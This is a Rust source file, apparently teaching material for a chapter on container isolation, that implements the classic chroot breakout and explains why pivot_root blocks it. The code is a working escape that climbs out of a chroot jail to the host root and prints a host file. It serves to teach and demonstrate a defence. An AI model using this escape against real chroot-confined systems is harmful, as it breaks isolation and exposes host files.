//! `chroot-escape FILE`: the classic breakout from `chroot(2)`, for chapter 3.
//!
//! `chroot(2)` changes only the directory where path lookups for `/` start.
//! It does not change the current directory, and the kernel stops `..` only
//! at the process's root. So a root process can:
//!
//! 1. create a directory and `chroot` into it, while its current directory
//!    stays outside the new root;
//! 2. `chdir("..")` again and again: never passing its root, it climbs up to
//!    the real `/` of the mount namespace;
//! 3. `chroot(".")` there: its root is now the host's `/`.
//!
//! Then it prints FILE, a path on the host. Under `pivot_root(2)` the climb
//! stops at the container's `/`, because the host's root is no longer mounted
//! anywhere in the container's mount namespace: FILE cannot be found.
//!
//! Built statically (`scripts/build`) so that it runs inside a busybox rootfs,
//! which has no C library.

use std::process::ExitCode;

use nix::unistd::{chdir, chroot, mkdir};

fn main() -> ExitCode {
    let Some(file) = std::env::args().nth(1) else {
        eprintln!("usage: chroot-escape FILE");
        return ExitCode::from(2);
    };
    match escape() {
        Ok(()) => {}
        Err(err) => {
            eprintln!("chroot-escape: {err}");
            return ExitCode::from(2);
        }
    }
    match std::fs::read_to_string(&file) {
        Ok(text) => {
            println!("escaped: read {file}: {}", text.trim_end());
            ExitCode::SUCCESS
        }
        Err(_) => {
            println!("still inside: no {file} here");
            ExitCode::from(1)
        }
    }
}

// ANCHOR: escape
fn escape() -> Result<(), String> {
    let dir = format!("/tmp/.chroot-escape-{}", std::process::id());
    mkdir(
        dir.as_str(),
        nix::sys::stat::Mode::from_bits_truncate(0o700),
    )
    .map_err(|e| format!("failed to create {dir}: {e}"))?;
    chroot(dir.as_str()).map_err(|e| format!("failed to chroot to {dir}: {e}"))?;
    // Our current directory is still the old "/", outside the new root: the
    // directory can go, and `..` is never stopped on the way up.
    let _ = std::fs::remove_dir(dir.trim_start_matches('/'));
    for _ in 0..256 {
        chdir("..").map_err(|e| format!("failed to chdir(..): {e}"))?;
    }
    chroot(".").map_err(|e| format!("failed to chroot(.): {e}"))
}
// ANCHOR_END: escape
